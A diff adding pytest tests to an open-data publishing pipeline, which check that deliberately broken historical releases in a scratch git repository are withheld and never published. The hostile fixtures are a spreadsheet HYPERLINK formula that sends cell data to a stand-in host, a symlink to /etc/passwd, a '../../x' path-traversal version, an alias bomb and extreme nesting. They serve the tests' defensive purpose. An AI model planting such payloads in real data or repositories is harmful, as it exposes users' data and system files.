@@ -552,3 +552,130 @@ def test_an_output_folder_that_is_a_link_replaces_the_link_not_its_target(built,
     pipeline.build(root, out)
     assert not out.is_symlink() and (out / "index.html").is_file()
     assert tree(elsewhere) == {"milik-orang.txt": b"tetap"}
+
+
+# --- history is input: bad historical releases in a scratch git repository ---------------------
+
+FORMULA = '=HYPERLINK("https://contoh.test/curi?d="&A1,"klik")'
+
+
+def release(root: Path, version: str, message: str, date: str, change=None) -> None:
+    """Commit the project with `version` (and its release notes), after `change(root)`."""
+    from gitrepo import commit, set_version
+
+    set_version(root, "uji", version)
+    if change:
+        change(root)
+    commit(root, message, date)
+
+
+@pytest.fixture(scope="module")
+def bad_history(tmp_path_factory):
+    """Releases of `uji`, each broken in its own way and each followed by a good one; the
+    working tree is valid. Returns the repository."""
+    from gitrepo import DATES, commit, git
+
+    root = small_project(tmp_path_factory.mktemp("riwayat") / "project")
+    git(root, "init", "-q", "-b", "main")
+    commit(root, "awal", DATES[0])
+    good = {name: (root / name).read_bytes() for name in (META, SCHEMA, CSV)}
+
+    def restore(root):
+        for name, content in good.items():
+            (root / name).unlink(missing_ok=True)
+            (root / name).write_bytes(content)
+
+    def without_sources(root):
+        write(root, META, text(root, META).replace("sources:\n- accessed: null\n  page_date: null\n"
+                                                   "  publisher: Uji\n  url: null\n", ""))
+
+    bad = {
+        "../../x": None,
+        "latest": None,
+        "1.1.0": without_sources,
+        "1.2.0": lambda root: write(root, CSV, text(root, CSV).replace(
+            "Satu", '"' + FORMULA.replace('"', '""') + '"')),
+        "1.3.0": lambda root: write(root, META, text(root, META)
+                                    + "checks:\n- type: tidak-ada\n  formula: x\n"),
+        "1.4.0": lambda root: write(root, SCHEMA, '{"fields": ['),
+        "1.5.0": lambda root: (root / CSV).unlink(),
+        "1.6.0": lambda root: ((root / CSV).unlink(), (root / CSV).symlink_to("/etc/passwd")),
+        "1.7.0": lambda root: write(root, META, text(root, META) + "limits: {bytes: 10}\n"),
+    }
+    for version, change in bad.items():
+        release(root, version, f"rusak {version}", DATES[1], change)
+        restore(root)
+    # metadata the version cannot even be read from: these commits are no release at all
+    write(root, META, text(root, META) + BOMB)
+    commit(root, "bom alias", DATES[1])
+    write(root, META, "a: " + "[" * 50_000 + "]" * 50_000 + "\n")
+    commit(root, "terlalu dalam", DATES[1])
+    restore(root)
+    release(root, "2.0.0", "baik lagi", DATES[2])
+    return root, bad
+
+
+@pytest.fixture(scope="module")
+def history_checked(bad_history):
+    root, _ = bad_history
+    with project.load(root).activate():
+        return gate(root)
+
+
+WITHHELD = {
+    "../../x": {"version_invalid"},
+    "latest": {"metadata_invalid"},   # the version pattern of the metadata rules
+    "1.1.0": {"metadata_invalid"},
+    "1.2.0": {"formula_cell"},
+    "1.3.0": {"metadata_invalid"},
+    "1.4.0": {"json_invalid"},
+    "1.5.0": {"file_missing"},
+    "1.6.0": {"symlink"},
+    "1.7.0": {"file_too_large"},   # over its limit: never read from git
+}
+
+
+@pytest.mark.parametrize("version", sorted(WITHHELD))
+def test_a_bad_historical_release_is_withheld_with_its_reason(history_checked, version):
+    [withheld] = [w for w in history_checked.withheld["uji"] if w.version == version]
+    assert {p.code for p in withheld.problems} == WITHHELD[version]
+    [warning] = [p for p in history_checked.problems
+                 if p.code == "release_withheld" and p.params["version"] == version]
+    assert (warning.file, warning.severity, warning.params["commit"]) == (
+        META, "warning", withheld.commit[:10])
+
+
+def test_bad_history_never_blocks_the_working_tree(history_checked):
+    assert history_checked.errors == []
+    assert [r.version for r in history_checked.releases["uji"]] == ["1.0.0", "2.0.0"]
+    assert len(history_checked.withheld["uji"]) == len(WITHHELD)
+
+
+def test_unreadable_old_metadata_is_no_release_and_costs_no_time(bad_history):
+    """An alias bomb and a 50,000-level nesting in old metadata: their commits name no
+    version, so they are no release; reading them is bounded (the nesting crashed it)."""
+    root, _ = bad_history
+    done = subprocess.run([sys.executable, "-m", "opendata", "validate", "--json", "--root",
+                           str(root)], capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr[-800:]
+    warned = {p["code"] for p in json.loads(done.stdout)}
+    assert warned == {"release_withheld"}
+
+
+@pytest.mark.build
+def test_withheld_releases_write_nothing_and_publish_no_formula(bad_history, tmp_path):
+    from opendata import pipeline
+
+    root, _ = bad_history
+    out = tmp_path / "keluar" / "site"
+    before = {p for p in tmp_path.parent.rglob("*") if not p.is_relative_to(tmp_path)}
+    pipeline.build(root, out)
+    after = {p for p in tmp_path.parent.rglob("*") if not p.is_relative_to(tmp_path)}
+    assert after == before, "a file was written outside the output folder"
+    assert sorted(p.name for p in (out / "data/uji").iterdir()) == ["1.0.0", "2.0.0", "latest"]
+    published = b"".join(p.read_bytes() for p in out.rglob("*")
+                         if p.is_file() and p.suffix in (".csv", ".json", ".xlsx", ".zip"))
+    assert b"HYPERLINK" not in published and b"root:x:" not in published
+    page = (out / "dataset/uji/riwayat/index.html").read_text(encoding="utf-8")
+    for version in WITHHELD:
+        assert version in page or version.replace("/", "&#x2F;") in page
